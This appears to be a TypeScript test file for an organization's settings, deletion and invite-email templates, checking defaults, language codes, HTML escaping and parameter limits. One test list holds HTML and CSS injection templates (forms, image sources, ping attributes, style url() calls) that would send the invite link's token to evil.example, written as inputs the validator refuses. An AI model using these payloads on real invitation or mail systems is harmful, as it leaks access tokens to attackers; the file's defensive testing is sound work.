/** Settings, invite templates and deletion of an organization (docs/domain.md, "Settings", "Invite templates"). */
import { describe, expect, test } from "vitest";
import { organizationDecider } from "../../src/domain/organization/decider.ts";
import type { OrganizationEvent } from "../../src/domain/organization/events.ts";
import {
  faultIn,
  isKnownLanguage,
  renderInvite,
  templateParameters,
} from "../../src/domain/organization/invite-template.ts";
import { given, idOf } from "./given.ts";

const founded: readonly OrganizationEvent[] = [
  { type: "OrganizationFounded", data: { founderId: idOf(1), name: "Engines" } },
  { type: "OwnershipGranted", data: { userId: idOf(1), ownership: 0 } },
];
const template = { language: "de", subject: "Hallo", html: "{inviteLink}" };
const deleted: OrganizationEvent = { type: "OrganizationDeleted", data: {} };

describe("settings", () => {
  test("default to an idle timeout of 120 minutes and an invitation expiry of 14 days", () => {
    expect(given(organizationDecider, founded).state.settings).toEqual({
      idleLogoutMinutes: 120,
      inviteExpiryDays: 14,
      defaultLanguage: "en",
    });
  });

  test("a change records only what differs; null clears a limit", () => {
    const limited: OrganizationEvent = {
      type: "OrganizationSettingsChanged",
      data: { memberLimit: 10, idleLogoutMinutes: 30 },
    };
    given(organizationDecider, founded)
      .when({
        type: "ChangeOrganizationSettings",
        settings: { memberLimit: 10, idleLogoutMinutes: 30, inviteExpiryDays: 14 },
      })
      .then(limited);
    given(organizationDecider, [...founded, limited])
      .when({ type: "ChangeOrganizationSettings", settings: { memberLimit: null } })
      .then({ type: "OrganizationSettingsChanged", data: { memberLimit: null } });
    given(organizationDecider, founded)
      .when({ type: "ChangeOrganizationSettings", settings: { memberLimit: null } })
      .then();
  });
});

describe("invite templates: one per ISO 639-1 language", () => {
  test("can be saved and deleted; a missing one cannot be deleted", () => {
    const saved: OrganizationEvent = { type: "InviteTemplateSaved", data: template };
    given(organizationDecider, founded).when({ type: "SaveInviteTemplate", template }).then(saved);
    given(organizationDecider, [...founded, saved])
      .when({ type: "SaveInviteTemplate", template })
      .then();
    given(organizationDecider, [...founded, saved])
      .when({ type: "DeleteInviteTemplate", language: "de" })
      .then({ type: "InviteTemplateDeleted", data: { language: "de" } });
    given(organizationDecider, founded)
      .when({ type: "DeleteInviteTemplate", language: "de" })
      .thenRejected("not-found");
  });

  test("an unknown parameter in any part is refused when the template is saved", () => {
    for (const part of ["subject", "html", "introMessage"]) {
      given(organizationDecider, founded)
        .when({ type: "SaveInviteTemplate", template: { ...template, [part]: "{password}" } })
        .thenRejected("invalid-input");
    }
  });

  test("an unknown language code is refused", () => {
    expect(["en", "de", "pt", "zh"].every(isKnownLanguage)).toBe(true);
    expect(["xx", "EN", "eng", "e", ""].some(isKnownLanguage)).toBe(false);
    given(organizationDecider, founded)
      .when({ type: "SaveInviteTemplate", template: { ...template, language: "xx" } })
      .thenRejected("invalid-input");
  });

  test("parameter values are HTML-escaped and never read as parameters again", () => {
    const values = {
      inviteLink: "https://muster.test/#a=1&b=2",
      organizationName: "{firstName} & <Sons>",
      firstName: "O'Hara",
      lastName: '"L"',
      name: "N",
      email: "e@x.test",
      expiresAt: "2026-01-01",
    };
    const all = templateParameters.map((name) => `{${name}}`).join("|");
    const { subject, html } = renderInvite(
      { subject: "{organizationName}\n{firstName}", html: all, introMessage: "<i>{lastName}" },
      values,
    );
    expect(subject).toBe("{firstName} & <Sons> O'Hara");
    expect(html.split("|")).toEqual([
      "&lt;i&gt;&quot;L&quot;",
      ' <a href="https://muster.test/#a=1&amp;b=2">https://muster.test/#a=1&amp;b=2</a> ',
      "{firstName} &amp; &lt;Sons&gt;",
      "O&#39;Hara",
      "&quot;L&quot;",
      "N",
      "e@x.test",
      "2026-01-01",
    ]);
  });

  test("only a word in braces is a parameter", () => {
    expect(faultIn("html", "a{color:red} { x } {} {1}")).toBeUndefined();
    expect(faultIn("html", "{{b}")).toContain("{b} is not a parameter");
  });
});

describe("the invite link cannot become part of another address", () => {
  test.each([
    '<a href="{inviteLink}">Join</a>',
    "<a title=x href='{inviteLink}'>Join {firstName}</a>",
    "<p>{inviteLink}</p>",
    "<table><tr><td>Copy: {inviteLink}</td></tr></table>",
    "{inviteLink}",
  ])("%s is saved", (html) => {
    expect(faultIn("html", html)).toBeUndefined();
  });

  test.each([
    '<a href="https://evil.example/?{inviteLink}">Join</a>',
    '<a href="https://evil.example/#{inviteLink}">Join</a>',
    '<img src="{inviteLink}">',
    '<img src="https://evil.example/{inviteLink}.png">',
    '<a href="https://evil.example/" title=">" ping="{inviteLink}">x</a>',
    '<a title=">" href="https://evil.example/?>{inviteLink}<">x</a>',
    '<form action="https://evil.example"><textarea name=x>{inviteLink}</textarea></form>',
    '<form action="https://evil.example"><input name=x value="{inviteLink}"></form>',
    "<style>p{background:url(https://evil.example/?{inviteLink})}</style>",
    "<script>{inviteLink}</script>",
    "<!-- {inviteLink} -->",
    '<link rel=stylesheet href="{inviteLink}">',
    '<a {inviteLink}="x">x</a>',
  ])("%s is refused", (html) => {
    expect(faultIn("html", html)).toContain("{inviteLink}");
  });

  test("the link is refused in the subject and the introduction", () => {
    expect(faultIn("subject", "Join {inviteLink}")).toBeDefined();
    expect(faultIn("introMessage", "Join {inviteLink}")).toBeDefined();
  });

  test("the number of parameters is limited, and an introduction cannot contain itself", () => {
    expect(faultIn("html", "{name}".repeat(50))).toBeUndefined();
    expect(faultIn("html", "{name}".repeat(51))).toContain("at most 50");
    expect(faultIn("subject", "{name}".repeat(11))).toContain("at most 10");
    expect(faultIn("introMessage", "{introMessage}")).toContain("itself");
  });

  test("a subject stays a line that mail servers take (RFC 5322: 998 characters)", () => {
    const values = {
      inviteLink: "http://muster.test/accept-invitation#token=mst_inv_x",
      organizationName: '"'.repeat(200),
      firstName: "Ada",
      lastName: "Byron",
      name: "Ada Byron",
      email: "ada@example.com",
      expiresAt: "2026-03-15",
    };
    const introMessage = "{organizationName}".repeat(111);
    const subject = "{introMessage}".repeat(14);
    expect(renderInvite({ subject, html: "", introMessage }, values).subject.length).toBeLessThan(
      998,
    );
  });
});

describe("a deleted organization", () => {
  test("refuses every command", () => {
    given(organizationDecider, founded).when({ type: "DeleteOrganization" }).then(deleted);
    for (const command of [
      { type: "DeleteOrganization" },
      { type: "ChangeOrganizationDetails", details: { name: "Again" } },
      { type: "SaveInviteTemplate", template },
      { type: "GrantOwnership", userId: idOf(2), ownership: 3 },
    ] as const) {
      given(organizationDecider, [...founded, deleted])
        .when(command)
        .thenRejected("not-found");
    }
  });
});
